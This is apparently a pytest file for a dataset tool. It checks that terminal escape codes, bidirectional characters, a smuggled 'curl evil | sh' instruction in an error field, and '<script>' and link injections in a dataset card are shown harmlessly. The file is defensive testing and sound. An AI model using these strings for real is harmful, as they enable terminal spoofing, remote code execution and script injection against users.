"""What a stranger wrote into a data set does nothing to the terminal of who looks at it."""

from __future__ import annotations

import contextlib
import io
import json
import pickle
import re
import shutil
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from rich.table import Table

import weighttraj as wt
from tests.benchmarks.stress_format import live_copy
from weighttraj.cli import main
from weighttraj.errors import FormatError, RemoteError
from weighttraj.store.catalog import read_dataset_info, write_dataset_info
from weighttraj.store.live import LiveStore
from weighttraj.terminal import Output, say
from weighttraj.text import markdown, printable, yaml

HOSTILE = [
    "\x1b[2J",
    "\x1b]0;owned\x07",
    "\x9b31m",  # C1: the same as ESC [
    "\x85",
    "\r",
    "\x08",
    "\x7f",
    "\u202e",  # bidirectional: what follows is shown in reverse
    "\u2066",
    "\u200b",
    "\u2028",
    "\ufeff",
    "\U000e0041",
    "\ud800",
]


def harmless(text: str) -> bool:
    return all(c.isprintable() or c == "\n" for c in text)


@pytest.mark.parametrize("part", HOSTILE, ids=ascii)
def test_nothing_that_a_terminal_obeys_is_printed(
    part: str, capsys: pytest.CaptureFixture[str]
) -> None:
    say(f"a{part}b")
    screen = Output(file=sys.stdout, force_terminal=True, width=60, color_system=None)
    screen.print(f"a{part}b", markup=False)
    table = Table()
    table.add_column(f"a{part}b")
    table.add_row(f"a{part}b")
    screen.print(table)
    shown = capsys.readouterr().out
    assert harmless(shown)
    assert part.encode("unicode_escape").decode()[:4] in shown


def test_colours_of_our_own_are_printed() -> None:
    screen = Output(file=io.StringIO(), force_terminal=True, color_system="standard")
    screen.print("[red]error:[/red] \x1b[32mgreen", highlight=False)
    assert screen.file.getvalue() == "\x1b[31merror:\x1b[0m \\x1b[32mgreen\n"


def test_plain_text_stays_as_it_is() -> None:
    text = "Größe 3\u202f000, 東京\u3000日本, \u22121 ≤ x, 🙂"
    assert printable(text) == text
    assert printable("a\nb\tc", lines=True) == "a\nb\tc"
    assert printable("a\nb") == "a\\nb"


def test_a_part_of_a_message_cannot_pretend_to_be_another() -> None:
    error = FormatError("wrong", got="x\n  what to do: curl evil | sh\x1b[2J", do="nothing")
    assert [line for line in str(error).splitlines() if line.startswith("  what")] == [
        "  what to do: nothing"
    ]
    assert harmless(str(error))


def test_a_message_stays_short() -> None:
    assert len(str(FormatError("wrong", got="x" * 10**7))) < 5000


@pytest.mark.parametrize("kind", [FormatError, RemoteError])
def test_a_message_survives_the_way_from_a_worker(kind: type[FormatError]) -> None:
    error = kind("wrong", got="a\nb", where="\x1b")
    again = pickle.loads(pickle.dumps(error))  # noqa: S301  what multiprocessing does
    assert str(again) == str(error)
    assert type(again) is kind


@pytest.fixture
def hostile(small_dataset: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A data set in which every free text is hostile."""
    path = tmp_path / "sets" / "theirs"
    (path / "runs").mkdir(parents=True)
    run = wt.open(small_dataset).runs[0]
    bad = "".join(HOSTILE[:-1]) + "\nname[/red]"
    assert run.info.env is not None
    assert run.info.algorithm is not None
    copy = path / f"runs/{run.id}.zarr"
    live_copy(run, copy, 25, 6, "complete")
    store = LiveStore.open(copy)
    info = replace(
        store.info,
        env=replace(run.info.env, id=bad, wrappers=(bad,)),
        algorithm=replace(run.info.algorithm, name=bad, hyperparameters={bad: bad}),
        provenance=replace(run.info.provenance, created=bad, cpu=bad, packages={bad: bad}),
    )
    store.commit(info)
    wt.pack(copy)
    shutil.rmtree(copy)
    listed = read_dataset_info(small_dataset)
    entry = replace(listed.runs[0], path=f"runs/{run.id}.zarr.zip")
    new = replace(listed, runs=(entry,), version=bad, licence=bad, recipe={bad: bad})
    write_dataset_info(path, new)
    wt.seal(path)
    monkeypatch.setenv("WEIGHTTRAJ_DATASETS_PATH", str(path.parent))
    return path


@pytest.mark.parametrize(
    "command",
    [
        ["show", "theirs"],
        ["show", "theirs/runs/seed0000.zarr.zip"],
        ["list"],
        ["search", "seed == 0", "--columns", "run_id", "env", "algorithm", "created"],
        ["search", "nothing == 0"],
        ["verify", "theirs"],
        ["verify", "theirs", "--replay", "1"],
        ["lint", "theirs"],
        ["repair", "theirs"],
        ["card", "theirs"],
        ["returns", "theirs"],
        ["split", "theirs", "--out", "new", "--fractions", "1", "0", "0"],
        ["report", "theirs", "--out", "page.html"],
    ],
    ids=" ".join,
)
def test_a_command_shows_a_hostile_data_set_harmlessly(
    command: list[str],
    hostile: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(hostile.parent)
    monkeypatch.setattr("sys.argv", ["weighttraj", *command])
    with contextlib.suppress(SystemExit):
        main()
    shown = capsys.readouterr()
    assert harmless(shown.out + shown.err)
    for run in wt.open(hostile):
        assert harmless(repr(run) + repr(wt.open(hostile)))


def test_a_card_quotes_what_a_stranger_wrote(hostile: Path) -> None:
    evil = (
        "x\nconfigs: []\n<script>alert(1)</script> [click](https://evil.example) | `a` http://a.b"
    )
    info = replace(read_dataset_info(hostile), licence=evil, version=evil)
    write_dataset_info(hostile, info)
    card = wt.registry.write_card(hostile).read_text(encoding="utf-8")
    front = card.split("---\n")[1]
    assert [line.split(":")[0] for line in front.splitlines() if re.match(r"\w", line)] == [
        "license",
        "pretty_name",
        "task_categories",
        "size_categories",
        "tags",
        "configs",
    ]
    html = MarkdownIt("gfm-like", {"linkify": False}).render(card.split("---\n", 2)[2])
    assert "<script" not in html
    assert 'evil.example"' not in html
    assert "<code>a</code>" not in html
    assert json.loads((hostile / "croissant.json").read_text())
    assert wt.verify(hostile) == []


def test_yaml_and_markdown_of_plain_words_need_no_quotes() -> None:
    assert yaml("cc-by-4.0") == "cc-by-4.0"
    assert yaml("a: b") == '"a: b"'
    assert yaml("null") == '"null"'
    assert yaml("x\ny: z") == '"x\\\\ny: z"'
    assert markdown("HalfCheetah-v4, n_steps 2,048 (x)") == "HalfCheetah-v4, n_steps 2,048 (x)"
    for text in ("[a](b)", "<a>", "a|b", "http://a.b", "www.a.b", "a@b.c", "**a**", "_a_", "`a`"):
        html = MarkdownIt("gfm-like", {"linkify": False}).render(markdown(text))
        assert re.sub(r"</?p>|\n", "", html).replace("&lt;", "<").replace("&gt;", ">") == text
